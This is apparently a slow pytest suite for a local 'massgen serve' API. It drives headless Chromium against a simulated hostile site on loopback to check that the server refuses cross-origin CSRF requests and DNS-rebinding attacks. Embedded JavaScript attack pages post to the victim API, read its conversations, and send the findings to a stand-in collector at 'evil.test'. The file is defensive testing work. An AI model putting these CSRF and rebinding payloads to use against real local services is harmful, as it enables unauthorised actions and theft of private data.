"""Web pages on other origins attacking a loopback ``massgen serve``, in a real headless Chromium.

An attacker server on loopback plays the hostile site. Chromium's resolver
maps its names: ``evil.test`` to the attacker's page on another port, and
``rebind.test`` to 127.0.0.2 on the MassGen server's own port, where the
attacker serves its page and relays every other request to the MassGen
server, which is what a DNS-rebinding attack achieves once the name points at
127.0.0.1. Each page reports what it could do to the attacker's ``/report``;
the assertions are made at the MassGen server (did a session start, was
anything read), with a control page on an allowed origin proving that the
browser's requests do reach it.
"""

from __future__ import annotations

import contextlib
import json
import queue
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from massgen_server.testing import SECRET, WAIT_S, chromium

pytestmark = pytest.mark.slow

BROWSER_WAIT_S = 60.0


def _chromium() -> str:
    return chromium("cross-origin browser tests")


def _read_request(conn: socket.socket) -> tuple[bytes, bytes]:
    """(request line, everything read so far) of the request arriving on ``conn``."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = conn.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    length = next(
        (int(line.split(b":", 1)[1]) for line in head.split(b"\r\n")[1:] if line.lower().startswith(b"content-length:")), 0
    )
    while len(rest) < length:
        chunk = conn.recv(65536)
        if not chunk:
            break
        rest += chunk
    return head.split(b"\r\n", 1)[0], data if not length else head + b"\r\n\r\n" + rest


def _pump(source: socket.socket, target: socket.socket) -> None:
    try:
        while chunk := source.recv(65536):
            target.sendall(chunk)
    except OSError:
        pass
    finally:
        for sock in (source, target):
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)


class Attacker:
    """A hostile site on loopback: ``/`` is its page, ``POST /report`` collects what the page found.

    With ``relay_to`` every other request is relayed, bytes unchanged, to that address:
    the attacker's name now reaches the victim server (DNS rebinding).
    """

    def __init__(self, address: tuple[str, int], page: str, relay_to: tuple[str, int] | None = None) -> None:
        self.page = page.encode()
        self.relay_to = relay_to
        self.reports: queue.Queue[dict[str, Any]] = queue.Queue()
        self.listener = socket.create_server(address)
        self.port = self.listener.getsockname()[1]
        self.threads: list[threading.Thread] = []
        self._start(self._accept)

    def _start(self, target: Callable[..., None], *args: Any) -> None:
        thread = threading.Thread(target=target, args=args, daemon=True)
        thread.start()
        self.threads.append(thread)

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                conn, _ = self.listener.accept()
                self._start(self._handle, conn)

    def _handle(self, conn: socket.socket) -> None:
        line, raw = _read_request(conn)
        if line.startswith(b"GET / "):
            self._answer(conn, b"200 OK", b"text/html; charset=utf-8", self.page)
        elif line.startswith(b"POST /report "):
            self.reports.put(json.loads(raw.partition(b"\r\n\r\n")[2]))
            self._answer(conn, b"204 No Content", b"text/plain", b"")
        elif self.relay_to is not None and line:
            upstream = socket.create_connection(self.relay_to, timeout=WAIT_S)
            upstream.sendall(raw)
            self._start(_pump, conn, upstream)
            _pump(upstream, conn)
            return
        else:
            self._answer(conn, b"404 Not Found", b"text/plain", b"")
        conn.close()

    @staticmethod
    def _answer(conn: socket.socket, status: bytes, media_type: bytes, body: bytes) -> None:
        head = b"HTTP/1.1 %s\r\ncontent-type: %s\r\ncontent-length: %d\r\nconnection: close\r\n\r\n" % (status, media_type, len(body))
        with contextlib.suppress(OSError):
            conn.sendall(head + body)

    def report(self) -> dict[str, Any]:
        try:
            return self.reports.get(timeout=BROWSER_WAIT_S)
        except queue.Empty:
            raise AssertionError(f"the page sent no report within {BROWSER_WAIT_S} s") from None

    def close(self) -> None:
        self.listener.close()


@pytest.fixture
def browse(tmp_path: Path) -> Iterator[Callable[[str], None]]:
    """``browse(url)`` opens ``url`` in headless Chromium (evil.test and rebind.test resolved on loopback)."""
    chromium = _chromium()
    procs: list[subprocess.Popen[bytes]] = []

    def open_page(url: str) -> None:
        profile = tmp_path / f"profile-{len(procs)}"
        flags = [
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.2",
        ]  # fmt: skip
        procs.append(subprocess.Popen([chromium, *flags, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))

    yield open_page
    for proc in procs:
        proc.terminate()
        try:
            proc.wait(timeout=WAIT_S)
        except subprocess.TimeoutExpired:  # pragma: no cover - chromium ignored SIGTERM
            proc.kill()
            proc.wait()


@pytest.fixture
def attackers() -> Iterator[Callable[..., Attacker]]:
    started: list[Attacker] = []

    def start(*args: Any, **kw: Any) -> Attacker:
        started.append(Attacker(*args, **kw))
        return started[-1]

    yield start
    for attacker in started:
        attacker.close()


CSRF_PAGE = """<!DOCTYPE html><title>cute cats</title><script>
(async () => {
  const found = {};
  try {
    await fetch("%(target)s/v1/sessions", {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: JSON.stringify({question: "csrf from a web page"})});
    found.no_cors_post = "sent";
  } catch (e) { found.no_cors_post = "failed: " + e; }
  try {
    const r = await fetch("%(target)s/v1/sessions", {method: "POST",
      headers: {"Content-Type": "application/json"}, body: JSON.stringify({question: "cors from a web page"})});
    found.cors_post = {status: r.status, body: await r.text()};
  } catch (e) { found.cors_post = "failed: " + e; }
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

REBIND_PAGE = """<!DOCTYPE html><title>cute dogs</title><script>
(async () => {
  const found = {};
  const read = await fetch("/v1/conversations");
  found.read = {status: read.status, body: await read.text()};
  const post = await fetch("/v1/sessions", {method: "POST",
    headers: {"Content-Type": "application/json"}, body: JSON.stringify({question: "rebound session"})});
  found.post = {status: post.status, body: await post.text()};
  await fetch("%(collector)s/report", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>"""


def test_a_page_on_another_origin_starts_no_session(watched, attackers, browse, capfd):
    served, observer = watched()
    evil = attackers(("127.0.0.1", 0), CSRF_PAGE % {"target": served.url})
    browse(f"http://evil.test:{evil.port}/")
    found = evil.report()
    assert found["no_cors_post"] == "sent"  # the browser sent it; the server must have refused it
    assert str(found["cors_post"]).startswith("failed")  # no CORS grant: the page reads nothing
    assert observer.events == []  # no session started, no key spent
    assert [c["title"] for c in served.client.get("/v1/conversations").json()["conversations"]] == [SECRET]
    err = capfd.readouterr().err
    assert f"requests from the web page origin 'http://evil.test:{evil.port}' are refused" in err


def test_a_dns_rebinding_page_reads_nothing_and_starts_no_session(watched, attackers, browse, capfd):
    served, observer = watched()
    collector = attackers(("127.0.0.1", 0), "")
    attackers(("127.0.0.2", served.port), REBIND_PAGE % {"collector": f"http://evil.test:{collector.port}"}, relay_to=("127.0.0.1", served.port))
    browse(f"http://rebind.test:{served.port}/")
    found = collector.report()
    assert found["read"]["status"] == 421, found  # the page reached the server under its own name...
    assert SECRET not in found["read"]["body"]  # ...and read nothing
    assert found["post"]["status"] == 421
    assert observer.events == []
    assert "Host 'rebind.test:" in capfd.readouterr().err


def test_a_page_on_an_allowed_origin_can_use_the_api_but_not_with_a_text_plain_post(attackers, browse, watched):
    page = attackers(("127.0.0.1", 0), "")  # the port first: the server must name the origin
    served, observer = watched(allow_origins=(f"http://evil.test:{page.port}",))
    page.page = (CSRF_PAGE % {"target": served.url}).encode()
    browse(f"http://evil.test:{page.port}/")
    found = page.report()
    assert found["cors_post"]["status"] == 200, found  # the browser's requests do reach the server
    assert json.loads(found["cors_post"]["body"])["winner"] == "a2"
    assert observer.questions() == ["cors from a web page"]  # the text/plain post still started nothing
